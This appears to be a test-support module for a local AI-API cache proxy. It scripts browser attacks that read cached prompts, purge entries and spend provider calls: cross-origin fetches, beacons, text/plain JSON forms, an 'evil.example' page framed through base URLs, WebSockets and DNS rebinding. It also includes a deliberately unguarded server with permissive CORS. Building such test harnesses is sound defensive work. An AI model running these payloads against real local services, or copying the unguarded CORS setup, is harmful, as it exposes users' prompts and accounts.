"""What a web page can try against a server on the machine of its visitor, and a server that lets it all happen.

Each attack is a piece of JavaScript. It runs in the page, knows `proxy` and `page` (addresses of the victim), `CHAT` (the
body of a call whose answer is in the cache), and returns what it could read.
"""

from __future__ import annotations

import base64
import hashlib
import threading
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

MARK = "a prompt that no page may read"
CHAT = '{"model": "gpt-4o", "messages": [{"role": "user", "content": "%s"}]}' % MARK
BASED = "/https://api.openai.com/v1/chat/completions"
EVIL = "/http://evil.example/a.html"
"""A base URL, to a page of the attacker."""

PAGE_OF_THE_ATTACKER = (
    """<!doctype html><title>evil</title><body><script>
(async () => {
  let got = "";
  for (const path of ["/entries", "/", "/metrics", "/ai-cache/status"])
    try { got += await (await fetch(path, {headers: {"X-AI-Cache": "1"}})).text(); } catch (error) {}
  try {
    await fetch("/ai-cache/scope", {method: "POST", headers: {"X-AI-Cache": "1"}, body: '{"namespace": "taken"}'});
  } catch (error) {}
  try { got += await (await fetch("%s", {method: "POST", body: %r})).text(); } catch (error) {}
  for (const other of [window.opener, window.parent]) if (other && other !== window) other.postMessage(got, "*");
})();
</script>"""
    % (BASED, CHAT)
)
"""Runs in the origin of the victim, where its base URLs serve anybody."""

LIBRARY = (
    """
const [proxy, page] = arguments, done = arguments[arguments.length - 1];
const CHAT = %r, BASED = %r, EVIL = %r, READ = ["/entries", "/", "/metrics", "/ai-cache/status"];
const later = milliseconds => new Promise(go => setTimeout(go, milliseconds, ""));
const loads = element => new Promise(go => { element.onload = element.onerror = () => go(""); });
const told = () => new Promise(go => addEventListener("message", event => go(String(event.data)), {once: true}));
const text = async (url, options) => { try { return await (await fetch(url, options)).text(); } catch (error) { return ""; } };
const put = (tag, properties, where) => {
  const element = Object.assign(document.createElement(tag), properties);
  const over = loads(element);
  (where || document.body).append(element);
  return Promise.race([over, later(2000)]);
};
const form = async (url, fields, kind) => {
  const frame = Object.assign(document.createElement("iframe"), {name: "f" + Math.random()});
  document.body.append(frame);
  const sent = Object.assign(document.createElement("form"), {method: "POST", action: url, enctype: kind, target: frame.name});
  for (const [name, value] of Object.entries(fields))
    sent.append(Object.assign(document.createElement("input"), {name, value}));
  document.body.append(sent);
  const over = loads(frame);
  sent.submit();
  await Promise.race([over, later(2000)]);
};
(async () => { %%s })().then(got => done(String(got || "")), error => done("error: " + error));
"""
    % (CHAT, BASED, EVIL)
)


@dataclass(frozen=True)
class Attack:
    name: str
    script: str
    reads: bool = False
    """It reads entries where nothing is guarded."""
    controls: bool = False
    """It runs control calls or removes entries."""
    buys: bool = False
    """It makes calls to a provider."""


ATTACKS = [
    Attack(
        "fetch with CORS",
        'let got = ""; for (const at of [proxy, page]) for (const path of READ) got += await text(at + path); return got',
        reads=True,
    ),
    Attack(
        "fetch with CORS and credentials",
        'return await text(page + "/entries", {credentials: "include"}) + await text(proxy + "/", {credentials: "include"})',
        reads=True,
    ),
    Attack(
        "fetch with the header of control calls",
        """const options = {headers: {"X-AI-Cache": "1"}};
        const got = await text(proxy + "/ai-cache/status", options);
        await text(proxy + "/ai-cache/scope", {method: "POST", body: '{"namespace": "taken"}', ...options});
        return got""",
        reads=True,
        controls=True,
    ),
    Attack(
        "fetch of a base URL",
        'return await text(proxy + BASED, {method: "POST", body: CHAT, headers: {"content-type": "application/json"}})',
        reads=True,
        buys=True,
    ),
    Attack(
        "fetch without CORS",
        """const options = {mode: "no-cors", credentials: "include"};
        let got = "";
        for (const path of READ) got += await text(page + path, options) + await text(proxy + path, options);
        await text(proxy + BASED, {method: "POST", body: CHAT + " ", ...options});
        await text(page + "/purge", {method: "POST", body: new URLSearchParams({what: "all"}), ...options});
        return got""",
        controls=True,
        buys=True,
    ),
    Attack(
        "keepalive and beacon",
        """navigator.sendBeacon(proxy + BASED, CHAT + "  ");
        navigator.sendBeacon(page + "/purge", new URLSearchParams({what: "all"}));
        await later(700)""",
        controls=True,
        buys=True,
    ),
    Attack(
        "form, sent as JSON in text/plain",
        """const [before, after] = [CHAT.slice(0, -1) + ', "x": "', '"}'];
        await form(proxy + BASED, {[before]: after}, "text/plain");
        await form(proxy + "/ai-cache/scope", {'{"namespace": "taken", "x": "': '"}'}, "text/plain")""",
        controls=True,
        buys=True,
    ),
    Attack(
        "form",
        """for (const at of [page, proxy]) for (const path of ["/purge", "/entries/0/delete", "/ai-cache/scope"])
            await form(at + path, {what: "all", value: "*", token: ""}, "application/x-www-form-urlencoded");
        await form(proxy + BASED, {a: "b"}, "multipart/form-data")""",
        controls=True,
        buys=True,
    ),
    Attack(
        "frame with a page by base URL",
        """const heard = told();
        await put("iframe", {src: proxy + EVIL});
        return await Promise.race([heard, later(800)])""",
        reads=True,
        controls=True,
        buys=True,
    ),
    Attack(
        "window with a page by base URL",
        """const heard = told(), opened = window.open(proxy + EVIL);
        const got = await Promise.race([heard, later(1500)]);
        if (opened) opened.close();
        return got""",
        reads=True,
        controls=True,
        buys=True,
    ),
    Attack(
        "pictures, scripts, styles, objects",
        """const models = proxy + "/https://api.openai.com/v1/models";
        await Promise.all([
          put("img", {src: models + "?1"}), put("script", {src: models + "?2"}, document.head),
          put("link", {rel: "stylesheet", href: models + "?3"}, document.head), put("object", {data: models + "?4"}),
          put("video", {src: models + "?5", onloadeddata: null}), put("link", {rel: "prefetch", href: models + "?6"}, document.head),
          put("script", {src: models + "?7", type: "module"}, document.head), put("script", {src: page + "/entries"}, document.head),
          put("img", {src: page + "/entries", crossOrigin: "anonymous"})])""",
        buys=True,
    ),
    Attack(
        "WebSocket",
        """let got = "";
        for (const url of [proxy + "/ai-cache/status", page + "/live", proxy + "/https://api.openai.com/v1/realtime"])
          got += await Promise.race([later(1500), new Promise(go => {
            const socket = new WebSocket(url.replace("http:", "ws:"));
            socket.onmessage = event => go(String(event.data));
            socket.onclose = socket.onerror = () => go("");
          })]);
        return got""",
        reads=True,
        buys=True,
    ),
    Attack(
        "EventSource",
        """let got = "";
        for (const url of [page + "/live", proxy + "/https://api.openai.com/v1/models"])
          got += await Promise.race([later(1000), new Promise(go => {
            const source = new EventSource(url);
            source.onmessage = event => { source.close(); go(String(event.data)); };
            source.onerror = () => { source.close(); go(""); };
          })]);
        return got""",
        reads=True,
        buys=True,
    ),
]

REBOUND = Attack(
    "a rebound name",
    """let got = "";
    for (const path of READ) got += await text(path, {headers: {"X-AI-Cache": "1"}});
    await text("/ai-cache/scope", {method: "POST", headers: {"X-AI-Cache": "1"}, body: '{"namespace": "taken"}'});
    got += await text(BASED, {method: "POST", body: CHAT + "   "});
    await text("/purge", {method: "POST", body: new URLSearchParams({what: "all"})});
    return got""",
    reads=True,
    controls=True,
    buys=True,
)
"""The page's own name leads to the victim by now: all it asks is of its own origin."""


class Web:
    """A web server of an attacker: an empty page at every path."""

    def __init__(self, server: type[BaseHTTPRequestHandler]) -> None:
        self._server = ThreadingHTTPServer(("127.0.0.1", 0), server)
        self._server.daemon_threads = True
        self.port = int(self._server.server_address[1])
        threading.Thread(target=self._server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self._server.shutdown()
        self._server.server_close()


class EmptyPage(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        body = b"<!doctype html><title>a page</title><body>"
        self.send_response(200)
        self.send_header("content-type", "text/html")
        self.send_header("content-length", str(len(body)))
        self.send_header("connection", "close")
        self.end_headers()
        self.wfile.write(body)
        self.close_connection = True

    def log_message(self, *values: object) -> None:
        pass


@dataclass
class Counts:
    controls: int = 0
    buys: int = 0


class Unguarded(Web):
    """What a proxy with a status page, control calls and base URLs is without any guard."""

    def __init__(self) -> None:
        counts = self.counts = Counts()

        class Handler(BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def _any(self) -> None:
                length = int(self.headers.get("content-length") or 0)
                self.rfile.read(length)
                if self.command != "OPTIONS":
                    if self.path.startswith("/http"):
                        counts.buys += 1
                    elif self.command == "POST":
                        counts.controls += 1
                if key := self.headers.get("sec-websocket-key"):
                    self._websocket(key)
                    return
                events = "event-stream" in self.headers.get("accept", "")
                html = self.path == EVIL
                body = PAGE_OF_THE_ATTACKER if html else f"data: {MARK}\n\n" if events else MARK
                self.send_response(200)
                self.send_header("content-type", "text/event-stream" if events else "text/html")
                self.send_header("content-length", str(len(body)))
                self.send_header("access-control-allow-origin", self.headers.get("origin") or "*")
                self.send_header("access-control-allow-credentials", "true")
                self.send_header("access-control-allow-headers", self.headers.get("access-control-request-headers", ""))
                self.end_headers()
                self.wfile.write(body.encode())

            do_GET = do_POST = do_OPTIONS = do_HEAD = _any  # noqa: N815

            def _websocket(self, key: str) -> None:
                magic = (key + "258EAFA5-E914-47DA-95CA-C5AB0DC85B11").encode()
                accept = base64.b64encode(hashlib.sha1(magic).digest()).decode()
                self.send_response(101)
                self.send_header("upgrade", "websocket")
                self.send_header("connection", "Upgrade")
                self.send_header("sec-websocket-accept", accept)
                self.end_headers()
                self.wfile.write(bytes([0x81, len(MARK)]) + MARK.encode())
                self.close_connection = True

            def log_message(self, *values: object) -> None:
                pass

        super().__init__(Handler)
